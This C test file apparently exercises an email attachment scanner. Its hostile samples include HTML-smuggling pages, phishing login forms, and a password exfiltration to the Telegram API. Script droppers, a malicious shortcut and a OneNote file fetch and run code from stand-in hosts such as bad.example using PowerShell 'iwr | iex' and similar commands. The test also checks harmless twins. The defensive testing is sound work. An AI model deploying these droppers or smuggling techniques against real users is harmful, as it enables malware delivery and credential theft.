/* Attached pages, scripts, shortcuts, invitations, notebooks: what is held, and their harmless twins. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>
#include <gmime/gmime.h>

#include "content_mail.h"
#include "engine/msg/charset.h"
#include "engine/scan/scan.h"

static struct arena *a;

static int
begin(void **state)
{
    (void)state;
    a = arena_new();
    return 0;
}

static int
end(void **state)
{
    (void)state;
    arena_free(&a);
    return 0;
}

static struct msg *
file(const char *name, const char *type, const char *text)
{
    return content_mail(a, "Please see attached.", name, type, text, strlen(text));
}

static const char *
base64(const void *p, size_t n)
{
    char *text = g_base64_encode(p, n);
    char *copy = arena_strdup(a, text);
    g_free(text);
    return copy;
}

/* An empty archive: enough to be one. */
static const char zip[] = "PK\5\6\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0";
static const char page[] =
    "<html><form action=https://steal.example/x><input type=password></form>";

static const char *
backwards(const char *s)
{
    size_t n = strlen(s);
    char *to = arena_alloc(a, n + 1);
    for (size_t i = 0; i < n; i++)
        to[i] = s[n - 1 - i];
    return to;
}

static const char *
escaped(const char *s, const char *mark)
{
    struct buf *b = buf_new(a, 0);
    for (; *s; s++)
        buf_printf(b, "%s%02x", mark, (unsigned char)*s);
    return buf_cstr(b);
}

static const char *
list(const void *p, size_t n)
{
    struct buf *b = buf_new(a, 0);
    for (size_t i = 0; i < n; i++)
        buf_printf(b, "%s%u", i ? "," : "", ((const unsigned char *)p)[i]);
    return buf_cstr(b);
}

static void
smuggling(void **state)
{
    const char *z = base64(zip, sizeof zip - 1), *pg = base64(page, sizeof page - 1);
    const char *big = base64(arena_alloc(a, 3000), 3000);
    const struct {
        const char *name, *text;
    } cases[] = {
        {"a.html", arena_printf(a,
                                "<html><script>var d=atob('%s');var b=new Blob([d]);var "
                                "l=document.createElement('a');l.href=URL.createObjectURL(b);"
                                "l.download='invoice.zip';l.click()</script>",
                                z)},
        {"b.htm", arena_printf(a,
                               "<script>function go(){navigator.msSaveOrOpenBlob(new "
                               "Blob([Uint8Array.from([%s])]),\"x.zip\")}</script><body "
                               "onload=go()>",
                               list(zip, sizeof zip - 1))},
        {"c.html", arena_printf(a,
                                "<a id=k href=\"data:application/zip;base64,%s\" "
                                "download=\"scan.zip\">Open the document</a>",
                                z)},
        {"d.html",
         arena_printf(a, "<script>document.write(unescape('%s'))</script>", escaped(page, "%"))},
        {"e.html", arena_printf(a, "<script>document.write(atob(\"%s\"))</script>", pg)},
        {"f.html", arena_printf(a,
                                "<script>var s='%s'.split('').reverse().join('');"
                                "document.write(atob(s))</script>",
                                backwards(pg))},
        {"g.xhtml", arena_printf(a,
                                 "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>"
                                 "eval(\"%s\")</script></html>",
                                 escaped("window.location='https://steal.example/'", "\\x"))},
        {"h.html", arena_printf(a,
                                "<script>var k=`%s`;const u=window['URL']['createObjectURL'](new "
                                "window['Blob']([atob(k)]));const e=document.createElement('a');"
                                "e.setAttribute('download','statement.iso');e.href=u;"
                                "e['click']()</script>",
                                big)},
        {"i.html", arena_printf(a,
                                "<script>var p='%.*s'+\n'%s';var b=new Blob([atob(p)]);"
                                "window.location=URL.createObjectURL(b)</script>",
                                12, z, z + 12)},
        {"j.html",
         "<html><body><script>window.location.href=atob('aHR0cHM6Ly9zdGVhbC5leGFtcGxlLw==')"
         "+'#user@example.com';document.write(' ')</script></body></html>"},
        {"k.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script><![CDATA[window.location="
                  "'https://steal.example/'+btoa('x')]]></script></svg>"},
        {"l.svg", arena_printf(a,
                               "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"eval(atob("
                               "'%s'))\"><rect width='9'/></svg>",
                               pg)},
        {"m.html", page},
        {"n.html", arena_printf(a, "<html><iframe src=\"data:text/html;base64,%s\"></iframe>", pg)},
        {"o.html", arena_printf(a,
                                "<script>var h='%s';var b=[];for(var i=0;i<h.length;i+=2)b.push("
                                "parseInt(h.substr(i,2),16));var f=new Blob([new Uint8Array(b)]);"
                                "var a=document.createElement('a');a.href=URL.createObjectURL(f);"
                                "a.download='x.js';a.click()</script>",
                                escaped("new ActiveXObject('WScript.Shell').Run('cmd /c x')", ""))},
        {"p.html",
         "<html><body><p>Sign in</p><input type='email'><input type=\"password\" id=p>"
         "<script>fetch('https://api.telegram.org/bot1/sendMessage?t='+p.value)</script>"},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct msg *m =
            file(cases[i].name, i % 2 ? "text/html" : "application/octet-stream", cases[i].text);
        if (!content_held(m)) {
            content_print(m);
            fail_msg("%s passes: %s", cases[i].name, cases[i].text);
        }
    }
    struct msg *m = file(cases[0].name, "text/html", cases[0].text);
    assert_string_equal(content_found(m, "html-smuggling")->kind, "malware");
    assert_non_null(strstr(content_found(m, "html-smuggling")->evidence, "invoice.zip"));
    assert_non_null(content_found(file("d.html", "text/html", cases[3].text), "html-login"));
    assert_true(
        content_has_url(file("e.html", "text/html", cases[4].text), "https://steal.example/x"));
}

static void
harmless_pages(void **state)
{
    const char *logo = base64("\x89PNG\r\n\x1a\n and so on, a picture of some length", 44);
    const struct {
        const char *name, *text;
    } cases[] = {
        {"receipt.html",
         arena_printf(a,
                      "<!DOCTYPE html><html><head><style>p{color:#333}</style></head>"
                      "<body><h1>Receipt 4711</h1><img src=\"data:image/png;base64,"
                      "%s\"><p>Thank you for your order of 2 books.</p><a href="
                      "\"https://shop.example/orders/4711\">Your order</a></body>"
                      "</html>",
                      logo)},
        {"print.html", "<html><body onload=\"window.print()\"><p>Ticket for gate 12, row 3. Please "
                       "bring this page with you.</p></body></html>"},
        {"logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><a href="
                     "\"https://example.com/\"><circle r=\"3\" fill=\"#c00\"/></a></svg>"},
        {"sorted.html", "<html><body><table id=t><tr><td>1</td></tr></table><script>"
                        "document.getElementById('t').innerHTML += '<tr><td>2</td></tr>';</script>"
                        "</body></html>"},
        {"search.html",
         "<html><body><form action=\"https://search.example/\"><input name=q></form>"},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct msg *m = file(cases[i].name, "text/html", cases[i].text);
        if (content_held(m) || content_score(m) > 1) {
            content_print(m);
            fail_msg("%s", cases[i].name);
        }
    }
}

/* A chart with its library: the same names as a smuggler's, in a program of its own. */
static void
harmless_chart(void **state)
{
    struct buf *b = buf_new(a, 0);
    (void)state;
    buf_str(b, "<html><body><h1>Sales</h1><script>");
    for (int i = 0; i < 12000; i++)
        buf_printf(b, "function f%d(x){return x*%d}\n", i, i);
    buf_str(b, "var u=URL.createObjectURL(new Blob([atob(s)]));e.download='plot.png';e.click();"
               "document.write(unescape(x))</script></body></html>");
    assert_false(content_held(file("chart.html", "text/html", buf_cstr(b))));
}

static void
script_files(void **state)
{
    static const struct {
        const char *name, *text;
        bool held;
    } cases[] = {
        {"invoice.js",
         "var s=new ActiveXObject('WScript.Shell');var x=new ActiveXObject("
         "'MSXML2.XMLHTTP');x.open('GET','http://bad.example/a.exe',false);s.Run('a')",
         true},
        {"invoice.vbs",
         "Set s=CreateObject(\"WScript.Shell\")\ns.Run \"powershell -w hidden -enc AAAA\"", true},
        {"a.hta",
         "<html><HTA:APPLICATION/><script language=vbscript>CreateObject(\"Shell.Application\")"
         ".ShellExecute \"certutil\"</script>",
         true},
        {"a.bat",
         "@echo off\r\ncurl -o %TEMP%\\a.exe http://bad.example/\r\ncmd /c %TEMP%\\a.exe\r\n",
         true},
        {"a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://bad.example/')", true},
        {"a.jse", "#@~^AAAAAA==xyz", true},
        {"backup.sh", "#!/bin/sh\ncp -a /home /backup\n", false},
        {"readme.txt", "Run the installer with cmd /c setup", false},
        {"app.py", "print('hello')\n", false},
        /* sources of programs: nobody's computer starts them */
        {"build.py",
         "import os,subprocess\nsubprocess.run(cmd, shell=True)\nos.system('wget "
         "https://a.example/')"
         "\neval(x)\n",
         false},
        {"install.sh", "#!/bin/sh\ncurl -fsSL https://a.example/k | sh\neval \"$(ssh-agent)\"\n",
         false},
        {"invoice.js",
         "var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://bad.example/',false);"
         "x.send();eval(x.responseText)",
         true},
        {"jquery.js",
         "var m=/a/.exec(s);var x=new XMLHttpRequest();if(t)eval(s);String.fromCharCode(r);"
         "document.write(unescape(s))",
         false},
        {"index.js",
         "const cp=require('child_process');cp.exec('ls',{shell:true});eval(x);"
         "fetch('https://a.example/')",
         false},
        {"invoice.js", "var w=this['WScr'+'ipt'];eval(a);w.x('powershell -w hidden iwr b')", true},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct msg *m = file(cases[i].name, "application/octet-stream", cases[i].text);
        if (content_held(m) != cases[i].held) {
            content_print(m);
            fail_msg("%s", cases[i].name);
        }
    }
}

static void
wide(struct buf *b, const char *s)
{
    for (; *s; s++) {
        buf_char(b, *s);
        buf_char(b, '\0');
    }
}

static void
shortcuts(void **state)
{
    static const char args[] = "/c powershell -w hidden iwr https://bad.example/p | iex";
    struct buf *b = buf_new(a, 0);
    (void)state;
    buf_add(b, "\x4c\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\xa0\0\0\0", 24);
    for (int i = 24; i < 76; i++)
        buf_char(b, '\0');
    buf_add(b, "\x20\0", 2); /* the arguments follow a working directory */
    b->data[20] = (char)(0x80 | 0x20 | 0x08);
    b->len = 76;
    buf_add(b, "\7\0", 2);
    wide(b, "cmd.exe");
    buf_char(b, (char)(sizeof args - 1 + 40));
    buf_char(b, '\0');
    wide(b, "                                        ");
    wide(b, args);
    struct msg *m =
        content_mail(a, "", "scan.pdf.lnk", "application/octet-stream", b->data, b->len);
    assert_string_equal(content_found(m, "shortcut-command")->kind, "malware");
    assert_non_null(
        strstr(content_found(m, "shortcut-command")->evidence, "cmd.exe /c powershell"));
    assert_true(content_has_url(m, "https://bad.example/p"));
    m = file("a.url", "text/plain",
             "[InternetShortcut]\r\nURL=file://198.51.100.7@80/share/a.exe\r\n");
    assert_true(content_held(m));
    m = file("a.url", "text/plain", "[InternetShortcut]\r\nURL=https://www.example.com/\r\n");
    assert_false(content_held(m));
    assert_true(content_has_url(m, "https://www.example.com/"));
}

static void
calendars(void **state)
{
    struct msg *m =
        file("invite.ics", "application/octet-stream",
             "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:Join\\nhttps://meet.exa\r\n "
             "mple/a\\, please\r\nATTACH;FILENAME=a.js;ENCODING=BASE64;VALUE=BINARY:bmV3IEFj"
             "dGl2ZVhP\r\n YmplY3QoJ1dTY3JpcHQuU2hlbGwnKTsgZXZhbCgp\r\nEND:VEVENT\r\n");
    (void)state;
    assert_true(content_has_url(m, "https://meet.example/a"));
    assert_non_null(content_found(m, "script-dropper"));
    m = file("invite.ics", "text/calendar",
             "BEGIN:VCALENDAR\r\nSUMMARY:Lunch\r\nEND:VCALENDAR\r\n");
    assert_int_equal(content_count(m), 0);
}

static struct buf *
notebook(const char *name, const void *p, size_t n)
{
    struct buf *b = buf_new(a, 0);
    buf_add(b, "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16);
    buf_add(b, "\0\0\0\0", 4);
    wide(b, name);
    buf_add(b, "\0\0\0\0", 4);
    buf_add(b, "\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac", 16);
    buf_char(b, (char)n);
    buf_add(b, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 19);
    buf_add(b, p, n);
    return b;
}

static void
notebooks(void **state)
{
    static const char script[] = "@echo off\r\npowershell iwr http://bad.example/\r\n";
    struct buf *b = notebook("press.bat", script, sizeof script - 1);
    struct msg *m = content_mail(a, "", "a.one", "application/octet-stream", b->data, b->len);
    (void)state;
    assert_string_equal(content_found(m, "onenote-program")->evidence, "press.bat");
    assert_true(content_held(m));
    assert_int_equal(m->nparts, 2);
    assert_int_equal(m->parts[1].bytes, sizeof script - 1);
    b = notebook("minutes", "\x89PNG\r\n\x1a\n", 8);
    m = content_mail(a, "", "a.one", "application/octet-stream", b->data, b->len);
    assert_false(content_held(m));
}

static void
messages_in_files(void **state)
{
    struct msg *m =
        file("old.eml", "application/octet-stream",
             "From: c@d\r\nSubject: y\r\nMIME-Version: 1.0\r\nContent-Type: "
             "multipart/mixed; boundary=q\r\n\r\n--q\r\n\r\nsee https://in.example/\r\n--q\r\n"
             "Content-Type: text/plain; name=a.js\r\nContent-Transfer-Encoding: base64\r\n\r\n"
             "bmV3IEFjdGl2ZVhPYmplY3QoJ1dTY3JpcHQuU2hlbGwnKTsgZXZhbCgp\r\n--q--\r\n");
    (void)state;
    assert_true(content_has_url(m, "https://in.example/"));
    assert_non_null(content_found(m, "script-dropper"));
    /* much of nothing in front of what speaks of MIME */
    m = file("old.eml", "application/octet-stream",
             arena_printf(a,
                          "X-Much: %09000d\r\nContent-Type: text/plain; name=a.js\r\n"
                          "Content-Transfer-Encoding: base64\r\n\r\n"
                          "bmV3IEFjdGl2ZVhPYmplY3QoJ1dTY3JpcHQuU2hlbGwnKTsgZXZhbCgp\r\n",
                          0));
    assert_non_null(content_found(m, "script-dropper"));
}

static void
marks(void **state)
{
    (void)state;
    assert_non_null(content_found(file("a.chm", "application/x", "ITSF\3"), "risky-file"));
    assert_true(content_held(file("a.iqy", "application/x", "WEB\n1\nhttp://bad.example/")));
    assert_false(content_held(file("a.txt", "text/plain", "ITS a file")));
}

int
main(void)
{
#define TEST(name, fn)             \
    {                              \
        name, fn, begin, end, NULL \
    }
    const struct CMUnitTest tests[] = {
        TEST("T-E3 16 samples of smuggling and login pages", smuggling),
        TEST("T-E3 harmless pages and drawings", harmless_pages),
        TEST("T-E3 a chart with its library", harmless_chart),
        TEST("T-E7 script files", script_files),
        TEST("T-E7 shortcuts", shortcuts),
        TEST("T-E7 invitations", calendars),
        TEST("T-E7 notebooks", notebooks),
        TEST("T-E7 messages in files", messages_in_files),
        TEST("T-E7 kinds of files", marks),
    };
    g_mime_init();
    charset_preload();
    scanners_prepare();
    return cmocka_run_group_tests_name("content_web", tests, NULL, NULL);
}
